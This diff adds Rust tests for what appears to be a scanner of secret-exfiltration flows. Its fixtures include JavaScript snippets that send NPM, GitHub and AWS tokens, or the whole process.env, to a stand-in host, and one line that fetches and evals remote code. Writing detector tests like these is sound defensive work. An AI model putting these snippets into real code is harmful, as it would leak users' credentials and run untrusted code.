@@ -100,6 +100,97 @@ fn env_dump_and_harvested_tokens_reach_the_network_but_one_own_key_does_not() {
 }
 
 #[test]
+fn a_fallback_chain_of_keys_is_one_key_but_a_collection_of_them_is_a_harvest() {
+    // A client takes its key from its settings or from one of two variable names, and a second
+    // provider's key in another branch: one key per request, sent to the service it belongs to.
+    let chain = js(concat!(
+        "function apiKey(cfg, provider) {\n",
+        "  if (provider === 'speech') return cfg.key || process.env.SPEECH_API_KEY || process.env.VOICE_API_KEY;\n",
+        "  return cfg.other ?? process.env.TEXT_API_KEY;\n",
+        "}\n",
+        "async function call(cfg, provider, base) {\n",
+        "  const key = apiKey(cfg, provider);\n",
+        "  return fetch(`${base}/v1/run`, { method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: '{}' });\n",
+        "}\n",
+    ));
+    assert!(chain.is_empty(), "{chain:?}");
+    let python = py(concat!(
+        "import os, requests\n",
+        "def key(kind):\n",
+        "    return os.environ.get('SPEECH_API_KEY') or os.environ.get('VOICE_API_KEY') if kind == 's' else os.environ.get('TEXT_API_KEY')\n",
+        "requests.post(base + '/v1/run', headers={'Authorization': key('s')}, json={})\n",
+    ));
+    assert!(python.is_empty(), "{python:?}");
+    // Early returns, one per provider, and the key put in an object the caller unpacks.
+    let returns = js(concat!(
+        "function auth(cfg) {\n",
+        "  if (cfg.key) return { key: cfg.key, from: 'config' };\n",
+        "  const a = process.env.SEARCH_API_KEY;\n  if (a) return { key: a, from: 'a' };\n",
+        "  const b = process.env.ROUTER_API_KEY;\n  if (b) return { key: b, from: 'b' };\n",
+        "  return { key: process.env.BACKUP_API_KEY, from: 'c' };\n",
+        "}\n",
+        "fetch(base + '/search', { headers: { 'X-Token': auth(cfg).key } });\n",
+    ));
+    assert!(returns.is_empty(), "{returns:?}");
+    // Three keys put together, even as the fallback of something else, are several values.
+    let joined = js(concat!(
+        "const all = cfg.dump || [process.env.SPEECH_API_KEY, process.env.VOICE_API_KEY, process.env.TEXT_API_KEY].join(',');\n",
+        "fetch(base + '/c', { method: 'POST', body: all });\n",
+    ));
+    assert_eq!(joined.len(), 1, "{joined:?}");
+    assert_eq!(joined[0].0, FlowKind::EnvironmentToNetwork);
+    let each = js(concat!(
+        "const a = process.env.SPEECH_API_KEY || '';\nconst b = process.env.VOICE_API_KEY || '';\n",
+        "const c = process.env.TEXT_API_KEY || '';\n",
+        "fetch(base + '/c', { method: 'POST', body: JSON.stringify({ a, b, c }) });\n",
+    ));
+    assert_eq!(each.len(), 1, "{each:?}");
+}
+
+#[test]
+fn a_helper_reading_named_variables_of_the_environment_reads_those_variables() {
+    // Settings resolved from the environment passed in: a login sends the password to the server the
+    // same settings name, not the environment.
+    let settings = js(concat!(
+        "function clean(v) { return v ? v.trim() : ''; }\n",
+        "function resolve(cfg, env = process.env) {\n",
+        "  const server = clean(cfg.server) || clean(env.CHAT_SERVER);\n",
+        "  const user = clean(cfg.user) || clean(env.CHAT_USER);\n",
+        "  const password = clean(cfg.password) || clean(env.CHAT_PASSWORD) || undefined;\n",
+        "  return { server, user, password };\n",
+        "}\n",
+        "async function login(opts) {\n",
+        "  const env = opts.env ?? process.env;\n",
+        "  const s = resolve(opts.cfg, env);\n",
+        "  return fetch(`${s.server}/login`, { method: 'POST', body: JSON.stringify({ user: s.user, password: s.password }) });\n",
+        "}\n",
+    ));
+    assert!(settings.is_empty(), "{settings:?}");
+    // Three secrets read from the parameter and sent, in the helper or by its caller, are a harvest.
+    let harvest = js(concat!(
+        "function grab(env) { return [env.NPM_TOKEN, env.GITHUB_TOKEN, env.AWS_SECRET_ACCESS_KEY].join(':'); }\n",
+        "fetch('https://x.example.invalid/c', { method: 'POST', body: grab(process.env) });\n",
+    ));
+    assert_eq!(harvest.len(), 1, "{harvest:?}");
+    let inside = js(concat!(
+        "function send(env) { return fetch('https://x.example.invalid/c', { method: 'POST', body: env.NPM_TOKEN + env.GITHUB_TOKEN + env.AWS_SECRET_ACCESS_KEY }); }\n",
+        "send(process.env);\n",
+    ));
+    assert_eq!(inside.len(), 1, "{inside:?}");
+    // The environment wrapped in an object and read back by a lower-case field is still all of it.
+    let wrapped = js(concat!(
+        "function send(data) { return fetch('https://x.example.invalid/c', { method: 'POST', body: JSON.stringify(data.env) }); }\n",
+        "send({ env: process.env });\n",
+    ));
+    assert_eq!(wrapped.len(), 1, "{wrapped:?}");
+    let whole = js(concat!(
+        "function send(env) { return fetch('https://x.example.invalid/c', { method: 'POST', body: JSON.stringify(env) + env.HOME }); }\n",
+        "send(process.env);\n",
+    ));
+    assert_eq!(whole.len(), 1, "{whole:?}");
+}
+
+#[test]
 fn downloads_reaching_exec_through_promises_and_files() {
     let promise = js("fetch('https://x.example.invalid/p.js').then((r) => r.text()).then((code) => eval(code));\n");
     assert_eq!(promise.len(), 1, "{promise:?}");
